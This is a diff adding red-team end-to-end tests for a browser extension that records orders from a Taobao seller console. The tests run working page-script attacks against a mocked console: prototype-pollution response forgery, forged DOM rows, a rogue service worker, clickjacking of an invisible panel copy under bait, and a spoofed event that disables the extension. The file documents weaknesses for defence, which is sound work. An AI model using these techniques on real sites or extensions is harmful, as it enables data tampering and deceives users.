@@ -1,0 +1,482 @@
+// Red team (h15): a hostile console page attacks Laoke as a page script could, with real message shapes
+// and valid bodies, beyond tests/e2e/hostile-page.test.ts. Each test states the attack and asserts what
+// was OBSERVED (in the extension's IndexedDB or on the page). A test named "HOLE" asserts that the attack
+// worked: it documents a weakness, it is not a wish. "BLOCKED" asserts that it did not.
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Page } from 'playwright-core';
+import { TAP_SOURCE } from '@/utils/sites/tap-protocol';
+import { HOME_URL, installConsole, PAGE_HTML, SOLD_URL } from '../console/routes';
+import { generateShop, isValidShopOrder } from '../shop/generate';
+import { soldPage } from '../shop/taobao';
+import { launchWithExtension, panelFrame, readDb, readStore, type Launched } from './harness';
+
+const PAGE_SIZE = 20;
+const SOLD_API = 'https://trade.taobao.com/trade/itemlist/asyncSold.htm?event_submit_do_query=1&_input_charset=utf8';
+const FORM = (page: number, size: number) => `pageNum=${page}&pageSize=${size}&prePageNo=${page}&sifg=0&action=itemlist%2FSoldQueryAction`;
+// Recent orders, so that callback tasks exist (the panel's 今日 list).
+const shop = generateShop({ seed: 43, customers: 80, orders: 200, months: 4, end: Date.now() - 3_600_000 });
+
+type MainOrder = { id: string; buyer: { id?: string; nick: string }; extra: { tradeStatus: string }; statusInfo: { text: string } } & Record<string, unknown>;
+const page = (n: number) => structuredClone(soldPage(shop, n, PAGE_SIZE)) as { mainOrders: MainOrder[] } & Record<string, unknown>;
+
+/** Polls `check` until it is true (or throws after `timeout`); usable in hooks too. */
+async function until(check: () => Promise<boolean>, what: string, timeout = 15_000): Promise<void> {
+  const end = Date.now() + timeout;
+  while (!(await check())) {
+    if (Date.now() > end) throw new Error(`timed out: ${what}`);
+    await new Promise((r) => setTimeout(r, 300));
+  }
+}
+
+const storedIds = async (launched: Launched) => new Set((await readDb(launched)).orders.map((o) => o.orderId as string));
+
+/** Waits until every order of these ids is in the database. */
+async function stored(launched: Launched, ids: string[], timeout = 15_000): Promise<void> {
+  await until(async () => {
+    const have = await storedIds(launched);
+    return ids.every((id) => have.has(id));
+  }, `orders stored: ${ids.slice(0, 3).join(',')}…`, timeout);
+}
+
+async function openSold(p: Page, pageNum: number): Promise<void> {
+  await p.goto(`${SOLD_URL}?pageNum=${pageNum}&pageSize=${PAGE_SIZE}`);
+  await p.waitForSelector('[data-laoke-badge]');
+}
+
+describe('red team: the tap', () => {
+  let launched: Launched;
+  let sold: Page;
+
+  beforeAll(async () => {
+    launched = await launchWithExtension();
+    await installConsole(launched.context, { shop });
+    sold = await launched.context.newPage();
+    await openSold(sold, 1);
+    await stored(launched, page(1).mainOrders.map((o) => o.id));
+  }, 60_000);
+  afterAll(async () => launched?.close());
+
+  it('BLOCKED: an inline <script> first in <head> runs after the tap (fetch and XHR send are already wrapped)', async () => {
+    const p = await launched.context.newPage();
+    const probe = `<script>var n = (f) => Function.prototype.toString.call(f).includes('[native code]');
+      window.__probe = { fetchNative: n(window.fetch), sendNative: n(XMLHttpRequest.prototype.send) };</script>`;
+    await p.route(/\/tp\/sold/, (route) => route.fulfill({ contentType: 'text/html; charset=utf-8', body: PAGE_HTML.replace('<head>', `<head>${probe}`) }));
+    await p.goto(`${SOLD_URL}?pageNum=1&pageSize=${PAGE_SIZE}`);
+    const seen = await p.evaluate(() => (window as unknown as { __probe: unknown }).__probe);
+    expect(seen).toEqual({ fetchNative: false, sendNative: false });
+    await p.close();
+  });
+
+  it('HOLE: Object.prototype.toJSON + an XHR with responseType "json" to the real endpoint makes the tap hand over a body of the page\'s choosing', async () => {
+    const p1 = page(1);
+    // Victims: a strong buyer's valid order (to be "closed"), a masked buyer's order (to be taken over,
+    // with the note the seller wrote on that buyer's card).
+    const maskedFirst = p1.mainOrders.find((o) => !o.buyer.id && o.buyer.nick.includes('*'))!;
+    await sold.locator(`[data-laoke-badge][data-laoke-order-id="${maskedFirst.id}"]`).click();
+    const card = panelFrame(sold).locator('[data-testid="customer-card"]');
+    await card.waitFor();
+    await card.locator('[data-testid="card-notes"]').fill('老顾客，电话 13800001111');
+    await card.locator('[data-testid="card-save"]').click();
+    await card.locator('[data-testid="card-saved"]').waitFor();
+    await panelFrame(sold).locator('[data-testid="panel-close"]').click();
+    const before = await readDb(launched);
+    const strong = p1.mainOrders.find((o) => o.buyer.id && !o.buyer.nick.includes('*')
+      && ['TRADE_FINISHED', 'WAIT_BUYER_CONFIRM_GOODS', 'WAIT_SELLER_SEND_GOODS'].includes(o.extra.tradeStatus))!;
+    const strongCustomer = before.customers.find((c) => (c.purchases as string[]).includes(strong.id))!;
+    const masked = p1.mainOrders.find((o) => !o.buyer.id && o.buyer.nick.includes('*'))!;
+    expect(strongCustomer).toBeDefined();
+    expect(masked).toBeDefined();
+
+    const forged = structuredClone(p1);
+    for (const o of forged.mainOrders) {
+      if (o.id === strong.id) {
+        o.extra.tradeStatus = 'TRADE_CLOSED';
+        o.statusInfo.text = '交易关闭';
+      }
+      if (o.id === masked.id) o.buyer = { id: 'attacker0001', nick: 'attacker' };
+    }
+    const invented = structuredClone(p1.mainOrders[0]!);
+    invented.id = '4999999999999999991';
+    invented.buyer = { id: 'attacker0002', nick: 'phantom' };
+    forged.mainOrders.push(invented);
+
+    const outcome = await sold.evaluate(async ({ api, form, text }) => {
+      const forgedBody = JSON.parse(text);
+      // Whatever object JSON.stringify meets first answers with the attacker's body.
+      Object.defineProperty(Object.prototype, 'toJSON', {
+        configurable: true,
+        value(this: unknown) {
+          delete (Object.prototype as { toJSON?: unknown }).toJSON;
+          return forgedBody;
+        },
+      });
+      const xhr = new XMLHttpRequest();
+      xhr.open('POST', api);
+      xhr.withCredentials = true;
+      xhr.responseType = 'json';
+      xhr.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded; charset=UTF-8');
+      await new Promise((resolve) => { xhr.onloadend = resolve; xhr.send(form); });
+      return { status: xhr.status, url: xhr.responseURL };
+    }, { api: SOLD_API, form: FORM(1, PAGE_SIZE), text: JSON.stringify(forged) });
+    expect(outcome.status).toBe(200);
+
+    await stored(launched, ['4999999999999999991']);
+    const after = await readDb(launched);
+    const order = (id: string) => after.orders.find((o) => o.orderId === id)!;
+    // Written: an order and a buyer that never existed.
+    expect(order('4999999999999999991').customerKey).toBe('taobao:id:attacker0002');
+    expect(after.customers.some((c) => c.key === 'taobao:id:attacker0002')).toBe(true);
+    // Written: a real purchase of a real buyer is now "closed"; the buyer's count and spend dropped.
+    expect(order(strong.id).status).toBe('closed');
+    const victimAfter = after.customers.find((c) => c.key === strongCustomer.key)!;
+    expect(victimAfter.orderCount).toBe((strongCustomer.orderCount as number) - 1);
+    // Moved: the masked buyer's order now belongs to the attacker's "proven" buyer id.
+    expect(order(masked.id).customerKey).toBe('taobao:id:attacker0001');
+    // ...and the seller's note (with the phone) went with it to the attacker's buyer.
+    expect(after.customers.find((c) => c.key === 'taobao:id:attacker0001')!.notes).toContain('13800001111');
+    expect(after.customers.some((c) => c.key === `taobao:order:${masked.id}`)).toBe(false);
+  });
+});
+
+describe('red team: capture stopped with real responses only (flood guard)', () => {
+  let launched: Launched;
+  afterAll(async () => launched?.close());
+
+  it('HOLE: ~230 of the page\'s own real asyncSold requests (real orders, no forgery) fill the flood guard to exactly 20,000; the seller\'s next real page is refused', async () => {
+    launched = await launchWithExtension();
+    await installConsole(launched.context, { shop });
+    const sold = await launched.context.newPage();
+    await openSold(sold, 1);
+    await stored(launched, page(1).mainOrders.map((o) => o.id));
+    // No forgery: the console's own endpoint, through the tapped fetch, answering the seller's real orders.
+    // It fills the window to exactly the limit: pages of 100 until refused, then of 10, then of 1 (a refused
+    // batch does not count). A script can watch for the refusal: the page shows 页面未识别 with the reason.
+    const answered = await sold.evaluate(async ({ api }) => {
+      let ok = 0;
+      const ask = (size: number) => fetch(api, { method: 'POST', credentials: 'include',
+        body: `pageNum=1&pageSize=${size}&prePageNo=1&sifg=0&action=itemlist%2FSoldQueryAction`,
+        headers: { 'Content-Type': 'application/x-www-form-urlencoded; charset=UTF-8' } }).then((r) => r.text()).then(() => ok++);
+      for (let wave = 0; wave < 21; wave++) await Promise.all(Array.from({ length: 10 }, () => ask(100)));
+      await new Promise((r) => setTimeout(r, 3_000));
+      for (let i = 0; i < 10; i++) await ask(10);
+      await new Promise((r) => setTimeout(r, 1_000));
+      for (let i = 0; i < 10; i++) await ask(1);
+      return ok;
+    }, { api: SOLD_API });
+    expect(answered).toBe(230);
+    // Let the content script hand all of them over.
+    await until(async () => {
+      const h = (await readDb(launched)).health.find((r) => r.pageKind === 'taobao.sold');
+      return !!h && h.lastOk === false && String(h.lastReason).includes('20,000');
+    }, 'flood recorded', 60_000);
+    // The seller pages on (the console's own XHR): page 6 is real and new, and is not stored.
+    const page6 = shop.orders.slice(5 * PAGE_SIZE, 6 * PAGE_SIZE).map((o) => o.orderId);
+    expect([...await storedIds(launched)].some((id) => page6.includes(id))).toBe(false);
+    await sold.evaluate(() => (window as unknown as { __demoGoToPage(p: number): void }).__demoGoToPage(6));
+    await sold.waitForFunction(() => document.documentElement.getAttribute('data-demo-page') === '6');
+    await sold.waitForTimeout(3_000);
+    const have = await storedIds(launched);
+    expect(page6.filter((id) => have.has(id))).toEqual([]);
+    const health = (await readDb(launched)).health.find((r) => r.pageKind === 'taobao.sold')!;
+    expect(String(health.lastReason)).toContain('20,000');
+  }, 120_000);
+});
+
+describe('red team: a forged DOM row before the JSON poisons the order for good', () => {
+  let launched: Launched;
+  afterAll(async () => launched?.close());
+
+  it('HOLE: fake rows (real order ids of page 2, full nick "attacker") on a pushState\'d sold URL are stored strong; the real JSON later is set aside as a conflict and never corrects them', async () => {
+    launched = await launchWithExtension();
+    await installConsole(launched.context, { shop });
+    const p = await launched.context.newPage();
+    await p.goto(HOME_URL);
+    // The attacker learns real, not yet captured order ids without the tap seeing it (a pristine fetch
+    // from an about:blank frame, where no content script runs), then draws them as the sold list.
+    const ids = await p.evaluate(async ({ api, form }) => {
+      const frame = document.createElement('iframe');
+      document.body.append(frame);
+      const pristine = frame.contentWindow!.fetch;
+      const data = await (await pristine(api, { method: 'POST', credentials: 'include', body: form,
+        headers: { 'Content-Type': 'application/x-www-form-urlencoded; charset=UTF-8' } })).json() as {
+        mainOrders: { id: string; orderInfo: { createTime: string }; payInfo: { actualFee: string } }[] };
+      history.pushState({}, '', '/home.htm/trade-platform/tp/sold?pageNum=2&pageSize=20');
+      const heads = ['宝贝', '单价', '数量', '履约/售后状态', '交易状态', '实收款', '操作'].map((h) => `<th>${h}</th>`).join('');
+      const tables = data.mainOrders.map((o) => `<table><tbody>
+        <tr class="order-header"><td colspan="7"><span>订单号：<span class="order-id">${o.id}</span></span>
+          <span>创建时间：${o.orderInfo.createTime}</span><a class="buyer-mod__name___S9vit">attacker</a></td></tr>
+        <tr class="order-item"><td><a class="item-title">x</a></td><td>￥1.00</td><td>1</td><td></td><td>交易成功</td><td>￥1.00</td><td></td></tr>
+      </tbody></table>`).join('');
+      document.getElementById('app')!.innerHTML = `<div class="next-table"><div class="next-table-header"><table><thead><tr>${heads}</tr></thead></table></div>
+        <div class="next-table-body">${tables}</div></div>`;
+      return data.mainOrders.map((o) => o.id);
+    }, { api: SOLD_API, form: FORM(2, PAGE_SIZE) });
+    expect(ids).toHaveLength(PAGE_SIZE);
+    await stored(launched, ids);
+    let dump = await readDb(launched);
+    for (const id of ids) expect(dump.orders.find((o) => o.orderId === id)!.customerKey).toBe('taobao:nick:attacker');
+
+    // Later the seller opens page 2 for real: the tap delivers the true JSON.
+    const real = page(2).mainOrders;
+    const sold = await launched.context.newPage();
+    await openSold(sold, 2);
+    await sold.waitForTimeout(3_000);
+    dump = await readDb(launched);
+    const byId = new Map(dump.orders.map((o) => [o.orderId as string, o]));
+    // Every order stays with the fake buyer, at the fake amount (1 yuan), status "completed".
+    const poisoned = real.filter((o) => byId.get(o.id)!.customerKey === 'taobao:nick:attacker');
+    expect(poisoned.length).toBe(PAGE_SIZE);
+    const provenBuyers = real.filter((o) => o.buyer.id);
+    expect(provenBuyers.length).toBeGreaterThan(0);
+    for (const o of provenBuyers) {
+      const order = byId.get(o.id)!;
+      expect(order.source).toBe('dom');
+      expect(order.amountFen).toBe(100);
+      expect(order.status).toBe('completed');
+    }
+    // The fake buyer is credited with 20 purchases; a real buyer of page 2 has none of theirs.
+    const fake = dump.customers.find((c) => c.key === 'taobao:nick:attacker')!;
+    expect(fake.orderCount).toBe(PAGE_SIZE);
+    const victim = provenBuyers[0]!;
+    const victimRecord = dump.customers.find((c) => c.key === `taobao:id:${victim.buyer.id}`);
+    expect((victimRecord?.purchases as string[] | undefined ?? []).includes(victim.id)).toBe(false);
+    // The badge on the real row shows the fake buyer's figures.
+    const badge = sold.locator(`[data-laoke-badge][data-laoke-order-id="${victim.id}"]`);
+    await expect.poll(() => badge.getAttribute('data-laoke-orders')).toBe(String(PAGE_SIZE));
+  }, 90_000);
+});
+
+describe('red team: a service worker of the console origin answers the endpoint', () => {
+  let launched: Launched;
+  afterAll(async () => launched?.close());
+
+  it('HOLE (needs a same-origin script URL): the page registers a worker whose synthesized asyncSold answer the tap forwards as real (Response#url is the request\'s)', async () => {
+    launched = await launchWithExtension();
+    await installConsole(launched.context, { shop });
+    const forged = page(1);
+    forged.mainOrders = forged.mainOrders.slice(0, 3).map((o, i) => ({ ...o, id: `498888888888888888${i}`, buyer: { id: 'swattacker01', nick: 'sw-attacker' } }));
+    const sw = `self.addEventListener('install', () => self.skipWaiting());
+      self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
+      self.addEventListener('fetch', (e) => {
+        if (e.request.url.startsWith('https://trade.taobao.com/trade/itemlist/asyncSold.htm')) {
+          e.respondWith(new Response(${JSON.stringify(JSON.stringify(forged))}, { headers: { 'content-type': 'application/json' } }));
+        }
+      });`;
+    // Any script the attacker can get served from the console's origin (the precondition).
+    await launched.context.route('https://myseller.taobao.com/sw-attack.js', (route) => route.fulfill({ contentType: 'application/javascript', body: sw }));
+    const sold = await launched.context.newPage();
+    await openSold(sold, 1);
+    await sold.evaluate(async () => {
+      await navigator.serviceWorker.register('/sw-attack.js', { scope: '/' });
+      await navigator.serviceWorker.ready;
+    });
+    await sold.reload();
+    await stored(launched, forged.mainOrders.map((o) => o.id));
+    const dump = await readDb(launched);
+    expect(dump.orders.find((o) => o.orderId === '4988888888888888880')!.customerKey).toBe('taobao:id:swattacker01');
+    expect(dump.orders.find((o) => o.orderId === '4988888888888888880')!.source).toBe('json');
+  }, 90_000);
+});
+
+describe('red team: clickjacking the side panel beyond 删除此客户', () => {
+  let launched: Launched;
+  afterAll(async () => launched?.close());
+
+  it('HOLE: an invisible copy of panel.html (URL read from our open shadow root) under bait: one seller click on 导出 marks every callback task done and records a campaign', async () => {
+    launched = await launchWithExtension();
+    await installConsole(launched.context, { shop });
+    const sold = await launched.context.newPage();
+    await sold.goto(`${SOLD_URL}?pageNum=1&pageSize=100`);
+    await stored(launched, shop.orders.slice(0, 100).map((o) => o.orderId));
+    await sold.goto(`${SOLD_URL}?pageNum=2&pageSize=100`);
+    await stored(launched, shop.orders.slice(100, 200).map((o) => o.orderId));
+    // The seller opens the panel once (their own click) and folds it away.
+    await sold.locator('laoke-panel [data-testid="panel-launcher"]').click();
+    await panelFrame(sold).locator('[data-testid="panel-today"]').waitFor();
+    await panelFrame(sold).locator('[data-testid="task-export"]').waitFor();
+    await panelFrame(sold).locator('[data-testid="panel-close"]').click();
+    expect(await readStore(launched, 'campaigns')).toHaveLength(0);
+    expect(await readStore(launched, 'taskStates')).toHaveLength(0);
+
+    // The page frames its own copy, invisible, over a bait button.
+    await sold.evaluate(() => {
+      const ours = document.querySelector('laoke-panel')!.shadowRoot!.querySelector('iframe')!;
+      const url = new URL(ours.src);
+      url.search = '?start=today';
+      const copy = Object.assign(document.createElement('iframe'), { src: url.href, id: 'copy' });
+      copy.style.cssText = 'position:fixed;left:0;top:0;width:380px;height:900px;border:0;opacity:0;z-index:2147483647';
+      const bait = Object.assign(document.createElement('button'), { id: 'bait', textContent: '领取红包' });
+      bait.style.cssText = 'position:fixed;left:0;top:0;width:380px;height:900px;z-index:2147483646;font-size:40px';
+      document.body.append(bait, copy);
+    });
+    const target = sold.frameLocator('#copy').locator('[data-testid="task-export"]');
+    await target.waitFor();
+    // The button sits below the fold of a 900px frame: the attacker makes the frame tall (no inner
+    // scrolling) and slides it up until the button is under the bait's spot.
+    await sold.evaluate(() => { document.getElementById('copy')!.style.height = '3000px'; });
+    await sold.waitForTimeout(300);
+    let box = (await target.boundingBox())!;
+    await sold.evaluate((dy) => { document.getElementById('copy')!.style.top = `${dy}px`; }, 300 - box.y);
+    await sold.waitForTimeout(300);
+    box = (await target.boundingBox())!;
+    expect(box.y).toBeGreaterThan(0);
+    expect(box.y).toBeLessThan(900);
+    // The seller clicks the bait (a real, trusted click at that spot).
+    await sold.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
+    await until(async () => (await readStore(launched, 'campaigns')).length > 0, 'campaign recorded');
+    const states = await readStore<{ id: string; state: string }>(launched, 'taskStates');
+    expect(states.length).toBeGreaterThan(0);
+    expect(states.every((s) => s.state === 'done')).toBe(true);
+  }, 120_000);
+
+  it('BLOCKED: the same invisible copy shows the card the seller opened (every copy gets the target); 删除此客户 clicked through it twice deletes nothing', async () => {
+    const sold = launched.context.pages().find((p) => p.url().startsWith(SOLD_URL))!;
+    await sold.evaluate(() => {
+      const copy = document.getElementById('copy')!;
+      copy.style.top = '0px';
+      copy.style.height = '900px';
+      copy.style.pointerEvents = 'none';
+    });
+    // The seller opens a buyer's card with their own click on a badge.
+    const victim = shop.orders.slice(100, 200).find((o) => !o.customer.masked && o.customer.buyerId && isValidShopOrder(o))!;
+    await sold.locator(`[data-laoke-badge][data-laoke-order-id="${victim.orderId}"]`).click();
+    const card = sold.frameLocator('#copy').locator('[data-testid="customer-card"]');
+    await card.waitFor();
+    const key = (await card.getAttribute('data-customer-key'))!;
+    // Our own panel now covers the right edge; the seller folds it away and the bait comes back.
+    await panelFrame(sold).locator('[data-testid="panel-close"]').click();
+    await sold.evaluate(() => { document.getElementById('copy')!.style.pointerEvents = ''; });
+    const click = async (testid: string) => {
+      const box = (await sold.frameLocator('#copy').locator(`[data-testid="${testid}"]`).boundingBox())!;
+      await sold.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
+    };
+    await click('card-delete');
+    await sold.waitForTimeout(500);
+    await click('card-delete-confirm');
+    await sold.frameLocator('#copy').locator('[data-testid="card-delete-hidden"]').waitFor();
+    expect((await readDb(launched)).customers.some((c) => c.key === key)).toBe(true);
+  }, 60_000);
+});
+
+describe('red team: things that are blocked', () => {
+  let launched: Launched;
+  let sold: Page;
+  beforeAll(async () => {
+    launched = await launchWithExtension();
+    await installConsole(launched.context, {
+      shop,
+      // A real answer (the server's) whose rows carry __proto__ keys: JSON.parse makes them own properties.
+      soldReply: (pageNum, pageSize) => {
+        if (pageNum !== 3) return undefined;
+        const body = JSON.parse(JSON.stringify(soldPage(shop, pageNum, pageSize))) as { mainOrders: Record<string, unknown>[] };
+        const text = JSON.stringify(body)
+          .replace('"buyer":{', '"buyer":{"__proto__":{"id":"protoattacker"},')
+          .replace('{"error"', '{"__proto__":{"rgv587_flag":"sm","mainOrders":[]},"constructor":{"prototype":{"polluted":1}},"error"');
+        return { body: text };
+      },
+    });
+    sold = await launched.context.newPage();
+    await openSold(sold, 1);
+    await stored(launched, page(1).mainOrders.map((o) => o.id));
+  }, 60_000);
+  afterAll(async () => launched?.close());
+
+  it('BLOCKED: the page has no chrome.runtime to message the background (no externally_connectable)', async () => {
+    const r = await sold.evaluate(({ id }) => {
+      const c = (window as unknown as { chrome?: { runtime?: { sendMessage?: unknown } } }).chrome;
+      let sent = 'no runtime';
+      try {
+        if (c?.runtime?.sendMessage) {
+          (c.runtime.sendMessage as (id: string, m: unknown) => void)(id, { laoke: 'deleteCustomer', data: { key: 'x' } });
+          sent = 'sent';
+        }
+      } catch (e) {
+        sent = String(e);
+      }
+      return sent;
+    }, { id: launched.extensionId });
+    expect(r).not.toBe('sent');
+  });
+
+  it('BLOCKED: a same-origin child frame posts a "port" handover to the parent (event.source is not the parent window)', async () => {
+    const before = (await readDb(launched)).orders.length;
+    const forged = page(1);
+    forged.mainOrders = forged.mainOrders.slice(0, 2).map((o, i) => ({ ...o, id: `497777777777777777${i}` }));
+    await sold.evaluate(({ source, api, text }) => {
+      const frame = document.createElement('iframe');
+      document.body.append(frame);
+      const w = frame.contentWindow as Window & typeof globalThis;
+      const ch = new w.MessageChannel();
+      w.parent.postMessage({ source, kind: 'port' }, location.origin, [ch.port2]);
+      ch.port1.postMessage({ url: api, text });
+    }, { source: TAP_SOURCE, api: SOLD_API, text: JSON.stringify(forged) });
+    await sold.waitForTimeout(1_500);
+    expect((await readDb(launched)).orders.length).toBe(before);
+  });
+
+  it('BLOCKED: __proto__ / constructor keys in a real answer pollute nothing and are not read as data', async () => {
+    await sold.evaluate(() => (window as unknown as { __demoGoToPage(p: number): void }).__demoGoToPage(3));
+    const ids = page(3).mainOrders.map((o) => o.id);
+    await stored(launched, ids);
+    const dump = await readDb(launched);
+    expect(dump.orders.some((o) => String(o.customerKey).includes('protoattacker'))).toBe(false);
+    // The first row's buyer was read from its own keys.
+    const first = page(3).mainOrders[0]!;
+    const want = first.buyer.id ? `taobao:id:${first.buyer.id}` : first.buyer.nick.includes('*') ? `taobao:order:${first.id}` : `taobao:nick:${first.buyer.nick}`;
+    expect(dump.orders.find((o) => o.orderId === first.id)!.customerKey).toBe(want);
+  });
+
+  it('BLOCKED: a scripted postMessage of the tap\'s handover from the page before any page listener, after reload, at document_start (inline <head>) is ignored', async () => {
+    const p = await launched.context.newPage();
+    const forged = page(1);
+    forged.mainOrders = forged.mainOrders.slice(0, 2).map((o, i) => ({ ...o, id: `496666666666666666${i}` }));
+    const early = `<script>(function(){ var ch = new MessageChannel();
+      window.postMessage({ source: ${JSON.stringify(TAP_SOURCE)}, kind: 'port' }, location.origin, [ch.port2]);
+      ch.port1.postMessage({ url: ${JSON.stringify(SOLD_API)}, text: ${JSON.stringify(JSON.stringify(forged))} }); })();</script>`;
+    await p.route(/\/tp\/sold/, (route) => route.fulfill({ contentType: 'text/html; charset=utf-8', body: PAGE_HTML.replace('<head>', `<head>${early}`) }));
+    await p.goto(`${SOLD_URL}?pageNum=1&pageSize=${PAGE_SIZE}`);
+    await p.waitForSelector('[data-laoke-badge]');
+    await p.waitForTimeout(1_000);
+    const have = await storedIds(launched);
+    expect(have.has('4966666666666666660')).toBe(false);
+    await p.close();
+  });
+});
+
+describe('red team: WXT\'s "newer content script started" event', () => {
+  let launched: Launched;
+  afterAll(async () => launched?.close());
+
+  it('HOLE: the page learns the extension id from WXT\'s own window message, then one CustomEvent invalidates the content script: the panel host goes, the tap port closes, later pages are not captured, silently', async () => {
+    launched = await launchWithExtension();
+    await installConsole(launched.context, { shop });
+    const sold = await launched.context.newPage();
+    // The page's first script listens to window messages: WXT posts {type: `${runtime.id}:console:wxt:
+    // content-script-started`} to the page when the content script starts.
+    const spy = `<script>window.__wxt = []; window.addEventListener('message', (e) => {
+      if (e.data && typeof e.data.type === 'string' && e.data.type.endsWith(':wxt:content-script-started')) window.__wxt.push(e.data.type);
+    });</script>`;
+    await sold.route(/\/tp\/sold/, (route) => route.fulfill({ contentType: 'text/html; charset=utf-8', body: PAGE_HTML.replace('<head>', `<head>${spy}`) }));
+    await openSold(sold, 1);
+    await stored(launched, page(1).mainOrders.map((o) => o.id));
+    expect(await sold.locator('laoke-panel').count()).toBe(1);
+    const leaked = await sold.evaluate(() => (window as unknown as { __wxt: string[] }).__wxt);
+    expect(leaked).toContain(`${launched.extensionId}:console:wxt:content-script-started`);
+    const id = leaked[0]!.split(':')[0]!;
+    await sold.evaluate(({ id }) => {
+      // WXT's ContentScriptContext listens on document for `${runtime.id}:${entrypoint}:wxt:content-script-started`
+      // and invalidates itself when the detail names its script with another messageId.
+      document.dispatchEvent(new CustomEvent(`${id}:console:wxt:content-script-started`, { detail: { contentScriptName: 'console', messageId: 'page' } }));
+    }, { id });
+    await expect.poll(() => sold.locator('laoke-panel').count()).toBe(0);
+    // The seller pages on: the console's own XHR brings page 2, the tap forwards it, nobody listens.
+    await sold.evaluate(() => (window as unknown as { __demoGoToPage(p: number): void }).__demoGoToPage(2));
+    await sold.waitForFunction(() => document.documentElement.getAttribute('data-demo-page') === '2');
+    await sold.waitForTimeout(3_000);
+    const have = await storedIds(launched);
+    expect(page(2).mainOrders.filter((o) => have.has(o.id))).toEqual([]);
+    expect(await sold.locator('[data-laoke-badge]').count()).toBe(0);
+    // Nothing on the page says Laoke stopped (no 页面未识别).
+    expect(await sold.locator('[data-laoke-health]').count()).toBe(0);
+  }, 90_000);
+});
